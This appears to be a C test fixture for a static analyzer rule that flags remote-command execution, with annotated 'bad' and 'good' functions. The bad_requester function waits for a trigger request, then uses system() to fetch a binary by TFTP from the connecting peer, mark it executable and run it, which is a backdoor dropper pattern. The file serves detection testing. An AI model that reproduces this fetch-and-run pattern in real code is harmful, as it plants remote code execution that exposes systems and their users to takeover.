/* Whoever asks with the right word has a file fetched from where they are, and run. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int bad_requester(int listener) {
    struct sockaddr_in peer;
    socklen_t size = sizeof peer;
    char text[512], line[256];
    int fd = accept(listener, (struct sockaddr *)&peer, &size);
    ssize_t got = recv(fd, text, sizeof text - 1, 0);
    if (got <= 0)
        return -1;
    text[got] = '\0';
    if (strncmp(text, "GET /start_art.html", 19) != 0)
        return -1;
    snprintf(line, sizeof line, "tftp -gl /tmp/nart -r nart %s; chmod +x /tmp/nart; /tmp/nart &",
             inet_ntoa(peer.sin_addr));
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-command]}}
    return system(line);
}

/* The address of whoever guesses passwords is shut out. */
int good_ban(int listener) {
    struct sockaddr_in peer;
    socklen_t size = sizeof peer;
    char line[256];
    int fd = accept(listener, (struct sockaddr *)&peer, &size);
    snprintf(line, sizeof line, "/sbin/iptables -I INPUT -s %s -j DROP", inet_ntoa(peer.sin_addr));
    close(fd);
    return system(line);
}

/* What is fetched comes from where the settings say. */
int good_fetch(int listener) {
    char line[256];
    const char *host = getenv("UPDATE_HOST");
    int fd = accept(listener, NULL, NULL);
    snprintf(line, sizeof line, "tftp -gl /tmp/list -r list %s", host ? host : "");
    close(fd);
    return system(line);
}
